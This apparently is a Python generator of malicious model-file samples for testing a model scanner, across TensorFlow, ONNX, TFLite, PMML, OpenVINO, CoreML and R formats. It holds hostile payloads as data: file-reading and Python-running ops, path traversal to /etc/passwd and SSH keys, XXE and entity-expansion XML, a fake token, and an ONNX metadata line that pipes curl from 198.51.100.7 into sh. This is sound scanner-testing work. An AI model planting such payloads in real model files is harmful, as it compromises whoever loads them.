"""Computation graphs: TensorFlow, ONNX, TFLite, CoreML, Paddle, OpenVINO, PMML, R."""
import gzip
import json
import struct

from samples import field, zipped


def attribute(key, value):
    return field(5, [field(1, key), field(2, value)])


def node(name, op, *attributes):
    return [field(1, name), field(2, op), *attributes]


def graph(*nodes, library=()):
    parts = [field(1, one) for one in nodes]
    for name, body in library:
        signature = field(1, [field(1, name)])
        parts.append(field(2, [field(1, [signature, *[field(3, one) for one in body]])]))
    return b"".join(parts)


def saved_model(graph_def):
    return field(1, 1) + field(2, [field(1, [field(4, "serve"), field(5, "2.15.0")]), field(2, graph_def)])


CALM = node("x", "Placeholder")


def tensorflow(samples):
    def add(name, data, technique, severity):
        samples.attack("tf/" + name, data, technique, severity)

    direct = {
        "ReadFile": "high", "WriteFile": "critical", "PyFunc": "critical", "EagerPyFunc": "critical", "PyFuncStateless": "critical",
        "MatchingFiles": "high", "Save": "medium", "WholeFileReader": "medium",
        "TextLineDataset": "medium", "FixedLengthRecordDataset": "medium", 
        "RpcCall": "medium", "TryRpc": "medium",
        "RemoteCall": "high", "DataServiceDataset": "medium", "LMDBDataset": "medium", 
        "DumpTensor": "medium",
        "FileSystemSetConfiguration": "medium", "PyCallBlackBox": "medium",
        "AssaySystem": "medium", "SnapshotDataset": "medium", "CSVDataset": "medium", "TFRecordReader": "medium", 
        "PyFuncV9": "medium", "LoadLibrary": "medium", "LookupTableExportToFile": "medium", 
    }
    for op, severity in direct.items():
        if severity:
            add(f"{op}/saved_model.pb", saved_model(graph(CALM, node("y", op))), f"operator {op}", severity)
    for op, key, value, severity in [
            ("PrintV2", "output_stream", "file:///tmp/assay", "high"), ("ImmutableConst", "memory_region_name", "/etc/passwd", "high"),
            ("DecodeProtoV2", "descriptor_source", "/etc/passwd", "medium")]:
        add(f"{op}/saved_model.pb", saved_model(graph(CALM, node("y", op, attribute(key, field(2, value))))), f"{op} with {key}", severity)
    urls = attribute("debug_urls", field(1, field(2, "file:///tmp/assay")))
    for op in ["DebugIdentity", "DebugIdentityV3", "DebugNumericSummary"]:
        add(f"{op}/saved_model.pb", saved_model(graph(CALM, node("y", op, urls))), f"{op} sends tensors away", "high")
    add("noise/saved_model.pb", saved_model(graph(CALM, node("z", "PyFunc")) + field(77, b"noise") + field(200, 5)), "fields that TensorFlow ignores", "critical")
    add("noise_node/saved_model.pb", saved_model(graph(CALM, [field(99, "x"), *node("z", "WriteFile")])), "an unknown field in a node", "critical")
    add("library/saved_model.pb", saved_model(graph(CALM, node("y", "PartitionedCall"), library=[("inner", [node("z", "PyFunc")])])), "PyFunc in a function of the library", "critical")
    add("library_second/saved_model.pb", saved_model(graph(CALM, library=[("a", [CALM]), ("b", [CALM, node("z", "WriteFile")])])), "WriteFile in the second function", "critical")
    add("second_metagraph/saved_model.pb", saved_model(graph(CALM)) + field(2, [field(2, graph(node("z", "ReadFile")))]), "ReadFile in a second meta graph", "high")
    add("frozen.pb", graph(CALM, node("z", "EagerPyFunc")), "frozen graph", "critical")
    add("frozen_noext", graph(node("a", "Const"), node("z", "WriteFile", attribute("T", field(6, 1)))), "frozen graph without a name", "critical")
    add("model.meta", field(2, graph(CALM, node("z", "ReadFile"))), "meta graph", "high")
    add("zipped.zip", zipped([("m/saved_model.pb", saved_model(graph(node("z", "PyFunc")))), ("m/variables/variables.index", b"x")]), "SavedModel in a zip", "critical")
    add("duplicate_graph/saved_model.pb", saved_model(graph(CALM) + graph(node("z", "WriteFile"))), "nodes in two runs", "critical")
    add("text/graph.pbtxt", 'node {\n  name: "z"\n  op: "PyFunc"\n}\n', "text graph", "critical")


def onnx_model(nodes=(), initializers=(), functions=(), opsets=(("", 17),), metadata=(), producer="assay", more=()):
    graph_body = [field(1, one) for one in nodes] + [field(2, "g")] + [field(5, one) for one in initializers] + list(more)
    parts = [field(1, 8), field(2, producer), field(7, graph_body)]
    parts += [field(8, [field(1, domain), field(2, version)]) for domain, version in opsets]
    parts += [field(14, [field(1, key), field(2, value)]) for key, value in metadata]
    parts += [field(25, one) for one in functions]
    return b"".join(parts)


def external(location, *more):
    pairs = [("location", location), ("offset", "0"), ("length", "16"), *more]
    return [field(1, 4), field(2, 1), field(8, "w"), *[field(13, [field(1, key), field(2, value)]) for key, value in pairs], field(14, 1)]


def op(kind, domain="", *attributes):
    return [field(1, "x"), field(2, "y"), field(4, kind), *[field(5, one) for one in attributes], *([field(7, domain)] if domain else [])]


def onnx(samples):
    def add(name, data, technique, severity):
        samples.attack("onnx/" + name, data, technique, severity)

    places = {
        "absolute": ("/etc/passwd", "high"), "proc": ("/proc/self/environ", "high"), "dots": ("../../../../etc/shadow", "high"),
        "middle": ("weights/../../../secret", "high"), "backslash": ("..\\..\\secret", "high"), "drive": ("C:\\secret.bin", "high"),
        "file_url": ("file:///etc/passwd", "medium"), "http": ("http://198.51.100.7/w.bin", "medium"), "smb": ("//198.51.100.7/share/w", "high"),
        "tilde": ("~/.ssh/id_rsa", "medium"), "percent": ("%2e%2e/%2e%2e/etc/passwd", "medium"), "nul": ("w.bin\0/../../x", "high"),
        "dollar": ("${HOME}/x", "medium"), "dot_then_abs": (".//../..//etc/passwd", "high")
    }
    for name, (place, severity) in places.items():
        add(f"external_{name}.onnx", onnx_model([op("Relu")], [external(place)]), f"external data at {place!r}", severity)
    tensor = external("../../../etc/passwd")
    constant = op("Constant", "", [field(1, "value"), field(20, 4), field(5, tensor)])
    add("external_in_constant.onnx", onnx_model([constant]), "external data in a Constant", "high")
    inner = [field(1, constant), field(2, "then")]
    add("external_in_subgraph.onnx", onnx_model([op("If", "", [field(1, "then_branch"), field(20, 5), field(6, inner)])]), "external data in a branch", "high")
    deeper = [field(1, op("Loop", "", [field(1, "body"), field(20, 5), field(6, inner)])), field(2, "loop")]
    add("external_in_nested.onnx", onnx_model([op("If", "", [field(1, "else_branch"), field(20, 5), field(6, deeper)])]), "external data two graphs deep", "high")
    function = [field(1, "F"), field(7, constant), field(10, "local")]
    add("external_in_function.onnx", onnx_model([op("F", "local")], functions=[function], opsets=(("", 17), ("local", 1))), "external data in a function", "high")
    sparse = [field(1, tensor), field(2, tensor), field(3, 1)]
    add("external_in_sparse.onnx", onnx_model([op("Relu")], more=[field(15, sparse)]), "external data in a sparse initializer", "high")
    add("external_second_graph.onnx", onnx_model([op("Relu")]) + field(7, [field(5, tensor)]), "external data in a graph that is merged", "high")
    add("custom_op.onnx", onnx_model([op("Run", "assay.evil")], opsets=(("", 17), ("assay.evil", 1))), "operator of an unknown domain", "medium")
    add("custom_in_subgraph.onnx", onnx_model([op("If", "", [field(1, "then_branch"), field(20, 5), field(6, [field(1, op("Run", "assay.evil"))])])]), "unknown domain in a branch", "medium")
    add("python_op.onnx", onnx_model([op("PythonOp", "com.microsoft", [field(1, "func_name"), field(20, 3), field(4, b"os.system")])]), "PythonOp", "high")
    add("pyop.onnx", onnx_model([op("PyCustomOpDef_x", "ai.onnx.contrib")]), "onnxruntime-extensions Python operator", "low")
    add("metadata_code.onnx", onnx_model([op("Relu")], metadata=[("loader", "__import__('os').system('curl http://198.51.100.7/a|sh')")]), "code in metadata", "low")
    add("metadata_secret.onnx", onnx_model([op("Relu")], metadata=[("hub", "hf_" + "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xYzC")]), "token in metadata", "medium")
    add("epcontext.onnx", onnx_model([op("EPContext", "com.microsoft", [field(1, "ep_cache_context"), field(20, 3), field(4, b"../../evil.bin")], [field(1, "embed_mode"), field(20, 2), field(3, 0)])]), "execution-provider context outside of the folder", "high")
    add("zipped.zip", zipped([("m/model.onnx", onnx_model([op("Relu")], [external("../../x")]))]), "external data in a zipped model", "high")


def tflite(codes):
    """A TFLite model whose operator codes are given as (builtin, custom name)."""
    out = bytearray(b"\0\0\0\0TFL3")

    def place(data):
        while len(out) % 4:
            out.append(0)
        offset = len(out)
        out.extend(data)
        return offset

    def table(values):
        # values: slot -> ("u32", number) | ("i8", number) | ("ref", offset)
        slots = max(values) + 1
        vtable = struct.pack("<HH", 4 + 2 * slots, 4 + 4 * slots)
        vtable += b"".join(struct.pack("<H", 4 + 4 * slot if slot in values else 0) for slot in range(slots))
        start = place(vtable)
        while len(out) % 4:
            out.append(0)
        at = len(out)
        out.extend(struct.pack("<i", at - start) + bytes(4 * slots))
        for slot, (kind, value) in values.items():
            here = at + 4 + 4 * slot
            struct.pack_into("<i" if kind != "ref" else "<I", out, here, value if kind != "ref" else value)
        return at, {at + 4 + 4 * slot: value for slot, (kind, value) in values.items() if kind == "ref"}

    # Children must lie behind what refers to them: write the root last in thought, patch references afterwards.
    patches = []
    root, refs = table({0: ("u32", 3), 1: ("ref", 0), 2: ("ref", 0)})
    struct.pack_into("<I", out, 0, root)
    vector = place(struct.pack("<I", len(codes)) + bytes(4 * len(codes)))
    patches.append((root + 4 + 4, vector))
    for index, (builtin, custom) in enumerate(codes):
        slots = {0: ("i8", min(builtin, 127)), 1: ("ref", 0), 2: ("u32", 1), 3: ("u32", builtin)}
        if custom is None:
            del slots[1]
        at, _ = table(slots)
        patches.append((vector + 4 + 4 * index, at))
        if custom is not None:
            name = place(struct.pack("<I", len(custom)) + custom.encode() + b"\0")
            patches.append((at + 4 + 4, name))
    graphs = place(struct.pack("<I", 0))
    patches.append((root + 4 + 8, graphs))
    for place_of, target in patches:
        struct.pack_into("<I", out, place_of, target - place_of)
    return bytes(out)


def others(samples):
    add = samples.attack
    add("tflite/custom.tflite", tflite([(0, None), (32, "AssayRun")]), "custom operator", "medium")
    add("tflite/flex_write.tflite", tflite([(32, "FlexWriteFile")]), "Flex operator that writes", "high")
    add("tflite/flex_read.tflite", tflite([(32, "FlexReadFile")]), "Flex operator that reads", "high")
    add("tflite/flex_eager.tflite", tflite([(3, None), (32, "FlexEagerPyFunc")]), "Flex operator that runs Python", "high")
    add("openvino/entity.xml", '<?xml version="1.0"?><!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]><net name="&x;" version="11"><layers/></net>', "external entity", "high")
    add("pmml/laughs.pmml", '<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY a "' + "a" * 64 + '">' + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 16}">' for i in range(7)) + ']><PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header copyright="&h;"/><DataDictionary/></PMML>', "entities that multiply", "medium")
    add("openvino/extension.xml", '<net name="m" version="11"><layers><layer id="0" name="a" type="Run" version="assay_extension"><data library="/tmp/evil.so"/></layer></layers><edges/></net>', "layer of an extension", "medium")
    add("pmml/entity.pmml", '<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY % p SYSTEM "http://198.51.100.7/a.dtd"> %p;]><PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/></PMML>', "parameter entity from the network", "high")
    add("pmml/script.pmml", '<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/><Extension name="script" extender="x">Runtime.getRuntime().exec("echo")</Extension><DataDictionary/></PMML>', "script in an extension", "medium")
    add("pmml/include.pmml", '<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4" xmlns:xi="http://www.w3.org/2001/XInclude"><Header/><xi:include href="file:///etc/passwd" parse="text"/></PMML>', "XInclude", "medium")
    add("coreml/custom_layer.mlmodel", field(1, 4) + field(2, [field(100, [field(1, "m")])]) + field(500, [field(1, [field(1, "c"), field(500, [field(10, "AssayLayer")])])]), "CoreML custom layer", "medium")
    add("mlpackage/Manifest.json", json.dumps({"fileFormatVersion": "1.0.0", "itemInfoEntries": {"A": {"author": "x", "description": "", "name": "m", "path": "/etc/passwd"}}, "rootModelIdentifier": "A"}), "absolute path in a manifest", "high")
    add("mxnet/model-symbol.json", json.dumps({"nodes": [{"op": "null", "name": "data", "inputs": []}, {"op": "Custom", "name": "c", "attrs": {"op_type": "assay_run"}, "inputs": [[0, 0, 0]]}], "arg_nodes": [0], "heads": [[1, 0, 0]], "attrs": {"mxnet_version": ["int", 10700]}}), "MXNet Custom operator", "medium")
    add("paddle/py_func.pdmodel", field(1, [field(1, 0), field(2, 4294967295), field(4, [field(3, "py_func")])]), "Paddle py_func", "high")
    add("r/promise.rds", gzip.compress(r_promise("system"), mtime=0), "R promise that calls system", "critical")
    add("r/promise_eval.rds", r_promise("eval"), "R promise that calls eval", "critical")
    add("r/promise_shell.rds", r_promise("shell"), "R promise that calls shell", "critical")
    add("r/promise_source.rds", r_promise("source"), "R promise that sources a file", "critical")
    add("r/promise_download.rds", r_promise("download.file"), "R promise that downloads", "high")


def r_promise(function):
    def symbol(name):
        return struct.pack(">I", 1) + struct.pack(">II", 0x00040009, len(name)) + name.encode()

    def string(value):
        return struct.pack(">II", 16, 1) + struct.pack(">II", 0x00040009, len(value)) + value.encode()

    call = struct.pack(">I", 6) + symbol(function) + struct.pack(">I", 2) + string("echo assay") + struct.pack(">I", 254)
    promise = struct.pack(">I", 0x00000005) + struct.pack(">I", 251) + call
    return b"X\n" + struct.pack(">III", 3, 0x040300, 0x030500) + struct.pack(">I", 5) + b"UTF-8" + promise


def build(samples):
    tensorflow(samples)
    onnx(samples)
    others(samples)
